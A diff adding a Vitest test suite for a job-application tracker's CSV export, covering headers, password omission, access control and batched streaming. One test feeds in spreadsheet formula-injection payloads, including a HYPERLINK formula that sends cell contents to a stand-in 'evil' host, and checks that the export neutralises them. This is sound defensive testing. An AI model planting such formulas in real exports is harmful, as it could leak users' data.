@@ -1,0 +1,97 @@
+import { expect, test, vi } from 'vitest'
+import { createApplicationFor, createSignedInTeam } from '#test/factories.ts'
+import { fileApp } from '#test/harness.ts'
+import { insertManyApplications } from '#test/many-applications.ts'
+
+const file = fileApp()
+const path = '/api/applications/export.csv'
+
+/** Reads the text as RFC 4180 has it. */
+function parse(text: string) {
+  const rows: string[][] = [[]]
+  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
+    if (end === '\r\n') rows.push([])
+  }
+  return rows.slice(0, -1)
+}
+
+test('the own applications come as a file, the last added first, without passwords', async () => {
+  const app = file()
+  const { seeker, manager } = await createSignedInTeam(app)
+  await createApplicationFor(app, manager, { userId: seeker.id, sitePassword: 'a site password' })
+  const own = { company: 'Łódź, "Sons"', position: 'مهندس', jobUrl: 'https://jobs.example.test/1?a=b,c' }
+  await seeker.calls.post('/api/applications', { ...own, notes: 'Two\nlines', dateApplied: '2026-03-01' })
+  const { status, headers, text } = await seeker.calls.get(path)
+  expect(status).toBe(200)
+  expect(headers).toMatchObject({
+    'content-type': 'text/csv; charset=utf-8; header=present',
+    'cache-control': 'no-store',
+    'x-content-type-options': 'nosniff',
+  })
+  expect(headers['content-disposition']).toMatch(/^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/)
+  expect(text.startsWith('\uFEFFCompany,Position,Status,')).toBe(true)
+  expect(text).not.toMatch(/site password|v1:/)
+  const [, first, second, ...rest] = parse(text)
+  expect(first?.slice(0, 8)).toEqual([
+    own.company,
+    own.position,
+    'interested',
+    '2026-03-01',
+    own.jobUrl,
+    '',
+    '',
+    'Two\nlines',
+  ])
+  expect(second?.slice(0, 3)).toEqual(['Acme', 'Engineer', 'interested'])
+  expect(rest).toEqual([])
+})
+
+test('nothing in it is a formula to the program that opens it', async () => {
+  const app = file()
+  const { seeker } = await createSignedInTeam(app)
+  const harmful = ['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '=HYPERLINK("https://evil.example.test?"&A1,"a")']
+  for (const company of harmful)
+    await seeker.calls.post('/api/applications', { company, position: '=cmd', notes: company })
+  await app.pool.query(
+    `insert into job_applications (user_id, company, position, notes)
+     values ($1, e'\\t=1+1', e'\\r=1+1', e'\\n=1+1')`,
+    [seeker.id],
+  )
+  const [, ...rows] = parse((await seeker.calls.get(path)).text)
+  expect(rows).toHaveLength(harmful.length + 1)
+  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
+  expect(rows.at(-1)?.[0]).toBe("'=1+1")
+})
+
+test('a manager has those of all clients, with their names, or of one; nobody has what is not theirs', async () => {
+  const app = file()
+  const { seeker, manager, admin, otherManager, otherSeeker } = await createSignedInTeam(app)
+  await createApplicationFor(app, manager, { userId: seeker.id })
+  await createApplicationFor(app, otherManager, { userId: otherSeeker.id, company: 'Elsewhere' })
+  const [header, ...rows] = parse((await manager.calls.get(path)).text)
+  expect(header?.[0]).toBe('\uFEFFClient')
+  expect(rows.map((row) => row.slice(0, 2))).toEqual([['Sam Rivera', 'Acme']])
+  for (const { calls } of [seeker, manager, admin]) {
+    const [ofOne, ...found] = parse((await calls.get(`${path}?userId=${seeker.id}`)).text)
+    expect(ofOne?.[0]).toBe('\uFEFFCompany')
+    expect(found).toHaveLength(1)
+  }
+  for (const { calls } of [otherSeeker, otherManager])
+    expect((await calls.get(`${path}?userId=${seeker.id}`)).status).toBe(404)
+  expect((await admin.calls.get(`${path}?userId=1`)).status).toBe(400)
+  expect(parse((await admin.calls.get(path)).text)).toHaveLength(1)
+  expect(await app.anonymous.get(path)).toMatchObject({ status: 401, body: { message: 'Unauthorized' } })
+})
+
+test('5,000 are sent in parts, each read when the one before has gone', async () => {
+  const app = file()
+  const { seeker } = await createSignedInTeam(app)
+  await insertManyApplications(app.pool, seeker.id, 5_000)
+  const query = vi.spyOn(app.pool, 'query')
+  const [, ...rows] = parse((await seeker.calls.get(path)).text)
+  expect(rows).toHaveLength(5_000)
+  expect(new Set(rows.map(([, position]) => position)).size).toBe(5_000)
+  const results = await Promise.all(query.mock.results.map(({ value }) => value as unknown as { rowCount: number }))
+  expect(Math.max(...results.map(({ rowCount }) => rowCount))).toBe(501)
+})
